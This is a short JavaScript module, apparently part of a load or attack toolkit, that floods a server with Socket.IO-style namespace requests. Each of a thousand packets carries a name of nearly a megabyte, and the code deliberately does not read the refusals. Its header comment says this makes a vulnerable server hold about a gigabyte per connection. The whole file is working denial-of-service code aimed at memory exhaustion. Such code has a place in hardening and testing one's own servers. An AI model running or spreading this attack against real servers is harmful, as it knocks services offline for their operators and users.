// Without a token: requests a namespace with a name of nearly a megabyte, a thousand times, and does not read the
// refusals. A server that repeats the name holds a gigabyte for one connection.

import { addWire, onLines } from "./lines.mjs";
import { Wire } from "./wire.mjs";

export async function longNamespace({ url, from, signal, again, width = 2, packets = 1000, size = 999_000 }) {
  const packet = `40/${"x".repeat(size)},`;
  return onLines({ width, again, signal }, async (counts) => {
    const wire = await Wire.open(url, { from, signal });
    const stalled = wire.stall();
    let sent = 0;
    while (sent < packets && wire.isOpen) {
      await wire.text(packet);
      sent++;
    }
    await stalled;
    counts.sent = (counts.sent ?? 0) + sent;
    addWire(counts, wire, signal);
  });
}
